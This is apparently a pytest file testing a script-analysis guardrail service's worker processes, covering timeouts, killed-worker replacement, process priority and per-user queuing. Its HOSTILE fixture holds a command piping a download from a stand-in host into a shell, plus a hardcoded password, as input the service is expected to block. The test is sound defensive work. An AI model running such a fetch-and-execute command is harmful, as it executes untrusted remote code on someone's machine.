"""Analyses in worker processes: the same reports as in-process, bounded in time, a dead
worker replaced, each user in their own line."""

from __future__ import annotations

import asyncio
import os
import signal
import sys
import threading
import time
from pathlib import Path

import pytest

from jupyter_scriptforge.guardrails import GuardrailService
from jupyter_scriptforge.guardrails.service import AnalysesBusy
from tests.guardrails.big_script import stdlib_script

HOSTILE = "import os\nrun = os.system\nrun('curl https://x.example | sh')\npassword = 'hunter2'\n"


@pytest.fixture
def workers() -> GuardrailService:
    service = GuardrailService(bandit_skips=[], workers=2)
    yield service
    service.close()


def test_a_worker_gives_the_report_the_server_would(workers):
    here = GuardrailService(bandit_skips=[])

    report, audit = workers.decision(HOSTILE)

    assert report == {**here.report(HOSTILE), "duration_ms": report["duration_ms"]}
    assert report["verdict"] == "blocked"
    assert audit.counts == {"secret_assignment": 1}
    assert "hunter2" not in audit.content
    ok = workers.report("import json\n")
    assert (ok["verdict"], ok["findings"]) == ("ok", [])


def test_workers_are_separate_processes_at_a_lower_priority(workers):
    workers.analyze("x = 1\n")

    [pid] = workers.workers.pids()
    assert pid != os.getpid()
    stat = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    assert int(stat[16]) == os.getpriority(os.PRIO_PROCESS, 0) + 10  # nice


def test_an_analysis_that_overruns_is_a_blocking_finding_and_the_next_one_works():
    service = GuardrailService(workers=1, timeout=0.2)
    try:
        service.analyze("x = 1\n")  # the worker is up
        [first] = service.workers.pids()

        report = service.analyze(stdlib_script())

        [finding] = report.findings
        assert (finding.rule, finding.blocks) == ("SF100", True)
        assert "the analysis did not finish within 0.2 s" in finding.message
        assert not Path(f"/proc/{first}").exists()  # stopped, and reaped
        assert service.analyze(HOSTILE).verdict == "blocked"
        assert service.workers.pids() != [first]
    finally:
        service.close()


def test_a_worker_that_dies_is_a_blocking_finding_and_is_replaced(workers):
    workers.analyze("x = 1\n")
    [pid] = workers.workers.pids()
    reports = []
    analysing = threading.Thread(target=lambda: reports.append(workers.analyze(stdlib_script())))
    analysing.start()
    time.sleep(0.3)  # the 1 MB job is under way

    os.kill(pid, signal.SIGKILL)
    analysing.join(30)

    [finding] = reports[0].findings
    assert finding.rule == "SF100"
    assert "the analysis stopped with SIGKILL" in finding.message
    assert workers.analyze(HOSTILE).verdict == "blocked"


def test_close_stops_every_worker():
    service = GuardrailService(workers=2)
    threads = [threading.Thread(target=service.analyze, args=("x = 1\n",)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    pids = service.workers.pids()
    assert 1 <= len(pids) <= 2

    service.close()

    assert not any(Path(f"/proc/{pid}").exists() for pid in pids)
    assert service.workers.pids() == []


def test_workers_that_cannot_start_leave_the_analysis_to_the_server(monkeypatch):
    service = GuardrailService(workers=1)
    monkeypatch.setattr(sys, "executable", "")

    assert service.analyze(HOSTILE).verdict == "blocked"
    assert service.workers.pids() == []


# --- each user's line ------------------------------------------------------------------


async def test_a_user_waits_for_their_turn_and_another_user_does_not():
    service = GuardrailService(workers=2, per_user=1, waiting_per_user=2)  # none started
    order: list[str] = []
    release = asyncio.Event()

    async def analysis(user: str, name: str) -> None:
        async with service.turn(user):
            order.append(name)
            await release.wait()

    alice = [asyncio.create_task(analysis("alice", f"alice-{i}")) for i in range(3)]
    await asyncio.sleep(0.05)
    assert order == ["alice-0"]  # alice-1 and alice-2 wait in line

    bob = asyncio.create_task(analysis("bob", "bob-0"))
    await asyncio.sleep(0.05)
    assert order == ["alice-0", "bob-0"]  # bob is not behind alice

    with pytest.raises(AnalysesBusy) as busy:
        async with service.turn("alice"):
            pass
    assert busy.value.status_code == 429
    assert busy.value.details["retry_after"] >= 1
    assert "2 of your analyses are waiting already" in busy.value.message

    release.set()
    await asyncio.gather(*alice, bob)
    assert order == ["alice-0", "bob-0", "alice-1", "alice-2"]
